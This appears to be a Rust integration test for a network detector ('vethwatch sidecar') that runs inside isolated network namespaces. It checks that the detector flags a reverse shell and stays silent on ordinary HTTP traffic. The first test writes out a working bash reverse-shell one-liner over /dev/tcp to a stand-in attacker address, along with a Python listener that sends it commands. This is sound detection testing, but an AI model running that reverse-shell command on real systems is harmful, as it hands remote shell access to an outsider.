//! `vethwatch sidecar` in a network namespace with real programs: it finds a shell while it is used,
//! stays silent beside harmless traffic, and ends in time.
#![allow(clippy::disallowed_methods, clippy::unwrap_used, missing_docs)]

use std::fs::{self, File};
use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::atomic::{AtomicU32, Ordering};
use std::thread;
use std::time::{Duration, Instant};

const VETHWATCH: &str = env!("CARGO_BIN_EXE_vethwatch");
static LABS: AtomicU32 = AtomicU32::new(0);
const ATTACKER: &str = "10.213.7.2";

/// Two namespaces, a pod's and another's, with a veth pair between them. Gone with this value.
struct Lab {
    pod: String,
    other: String,
    folder: tempfile::TempDir,
    children: Vec<Child>,
}

fn ip(arguments: &str) {
    let done = Command::new("ip").args(arguments.split(' ')).output().unwrap();
    assert!(done.status.success(), "ip {arguments}: {}", String::from_utf8_lossy(&done.stderr));
}

impl Lab {
    fn new() -> Self {
        let (id, n) = (std::process::id(), LABS.fetch_add(1, Ordering::Relaxed));
        let (pod, other) = (format!("vethwatch-p{id}-{n}"), format!("vethwatch-o{id}-{n}"));
        ip(&format!("netns add {pod}"));
        let lab = Self { pod, other, folder: tempfile::tempdir().unwrap(), children: Vec::new() };
        let Self { pod, other, .. } = &lab;
        ip(&format!("netns add {other}"));
        ip(&format!("link add eth0 netns {pod} type veth peer name eth0 netns {other}"));
        for (namespace, address) in [(pod, "10.213.7.1/24"), (other, "10.213.7.2/24")] {
            ip(&format!("-n {namespace} addr add {address} dev eth0"));
            ip(&format!("-n {namespace} link set lo up"));
            ip(&format!("-n {namespace} link set eth0 up"));
        }
        lab
    }

    /// Starts a program in a namespace. It ends with this value.
    fn start(&mut self, namespace: &str, program: &mut Command) -> usize {
        let mut inside = Command::new("ip");
        inside.args(["netns", "exec", namespace]).arg(program.get_program());
        inside.args(program.get_args());
        for (name, value) in program.get_envs() {
            inside.env(name, value.unwrap_or_default());
        }
        inside.stdin(Stdio::piped()).stdout(Stdio::null());
        let log = File::create(self.path(&format!("log{}", self.children.len()))).unwrap();
        self.children.push(inside.stderr(log).spawn().unwrap());
        self.children.len() - 1
    }

    fn path(&self, name: &str) -> PathBuf {
        self.folder.path().join(name)
    }

    fn watch(&mut self, records: &Path) -> usize {
        let namespace = self.pod.clone();
        let watcher = self.start(
            &namespace,
            Command::new(VETHWATCH)
                .args(["sidecar", "--format", "eve", "--output"])
                .arg(records)
                .env("POD_NAME", "web-0")
                .env("POD_NAMESPACE", "shop"),
        );
        let log = self.path(&format!("log{watcher}"));
        until(Duration::from_secs(10), || {
            fs::read_to_string(&log).is_ok_and(|log| log.contains("watching eth0"))
        });
        watcher
    }

    /// Ends the watcher as a kubelet does, and tells how long it took.
    fn end(&mut self, watcher: usize) -> Duration {
        let begin = Instant::now();
        let child = &mut self.children[watcher];
        // `ip netns exec` becomes the program that it runs, so the number is the watcher's.
        let id = child.id().to_string();
        assert!(Command::new("kill").args(["-TERM", &id]).status().unwrap().success());
        assert!(child.wait().unwrap().success());
        begin.elapsed()
    }

    fn python(&mut self, namespace: &str, script: &str) -> usize {
        self.start(namespace, Command::new("python3").args(["-c", script]))
    }
}

impl Drop for Lab {
    fn drop(&mut self) {
        for child in &mut self.children {
            let _ = child.kill();
            let _ = child.wait();
        }
        for namespace in [&self.pod, &self.other] {
            let _ = Command::new("ip").args(["netns", "del", namespace]).output();
        }
    }
}

/// Waits until it is so, and returns how long it took.
fn until(at_most: Duration, mut is_so: impl FnMut() -> bool) -> Duration {
    let begin = Instant::now();
    while !is_so() {
        assert!(begin.elapsed() < at_most, "not within {at_most:?}");
        thread::sleep(Duration::from_millis(20));
    }
    begin.elapsed()
}

/// Listens, and writes to the caller what is said on standard input.
const LISTEN: &str = "import socket,sys,threading
s=socket.socket(); s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1)
s.bind(('10.213.7.2',4444)); s.listen(); sys.stderr.write('listening\\n'); sys.stderr.flush()
c,_=s.accept()
def hear():
    while (d:=c.recv(4096)): sys.stderr.write(d.decode(errors='replace')); sys.stderr.flush()
threading.Thread(target=hear,daemon=True).start()
for line in sys.stdin: c.sendall(line.encode())";

/// Serves one small page, ten times.
const SERVE: &str = "import http.server,sys
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200); self.send_header('Content-Length','6'); self.end_headers()
        self.wfile.write(b'hello\\n')
    def log_message(self,*a): pass
s=http.server.HTTPServer(('10.213.7.2',8080),H); sys.stderr.write('listening\\n'); sys.stderr.flush()
for _ in range(10): s.handle_request()";

const ASK: &str = "import urllib.request,time
for _ in range(5): urllib.request.urlopen('http://10.213.7.2:8080/').read(); time.sleep(0.1)";

fn alerts(records: &Path) -> Vec<serde_json::Value> {
    let text = fs::read_to_string(records).unwrap_or_default();
    text.lines()
        .filter_map(|line| serde_json::from_str::<serde_json::Value>(line).ok())
        .filter(|record| record["event_type"] == "alert")
        .collect()
}

#[test]
#[ignore = "needs root and network namespaces"]
fn finds_a_shell_while_it_is_used() {
    let mut lab = Lab::new();
    let records = lab.path("records.json");
    let watcher = lab.watch(&records);
    let (pod, other) = (lab.pod.clone(), lab.other.clone());
    let listener = lab.python(&other, LISTEN);
    let heard = lab.path(&format!("log{listener}"));
    let heard = || fs::read_to_string(&heard).unwrap_or_default();
    until(Duration::from_secs(10), || heard().contains("listening"));
    let shell = format!("exec 3<>/dev/tcp/{ATTACKER}/4444; exec sh <&3 >&3 2>&3");
    lab.start(&pod, Command::new("bash").args(["-c", &shell]));
    thread::sleep(Duration::from_secs(1));
    let mut typing = lab.children[listener].stdin.take().unwrap();
    typing.write_all(b"id\n").unwrap();
    until(Duration::from_secs(5), || heard().contains("uid="));
    until(Duration::from_secs(2), || !alerts(&records).is_empty());
    let alert = alerts(&records).swap_remove(0);
    assert_eq!(alert["vethwatch"]["detector"], "reverse_shell", "{alert}");
    assert_eq!(alert["kubernetes"]["pod"], "web-0", "{alert}");
    assert_eq!(alert["kubernetes"]["namespace"], "shop", "{alert}");
    assert_eq!(alert["dest_ip"], ATTACKER, "{alert}");
    assert!(lab.end(watcher) < Duration::from_secs(2));
}

#[test]
#[ignore = "needs root and network namespaces"]
fn stays_silent_beside_a_client() {
    let mut lab = Lab::new();
    let records = lab.path("records.json");
    let watcher = lab.watch(&records);
    let (pod, other) = (lab.pod.clone(), lab.other.clone());
    let server = lab.python(&other, SERVE);
    let log = lab.path(&format!("log{server}"));
    until(Duration::from_secs(10), || {
        fs::read_to_string(&log).is_ok_and(|log| log.contains("listening"))
    });
    let client = lab.python(&pod, ASK);
    assert!(lab.children[client].wait().unwrap().success());
    thread::sleep(Duration::from_millis(500));
    assert!(lab.end(watcher) < Duration::from_secs(2));
    assert!(alerts(&records).is_empty());
    // What was still open when it ended is written too.
    let text = fs::read_to_string(&records).unwrap();
    let flows = text.lines().filter(|line| line.contains("\"event_type\":\"flow\"")).count();
    assert!(flows >= 5, "{text}");
}
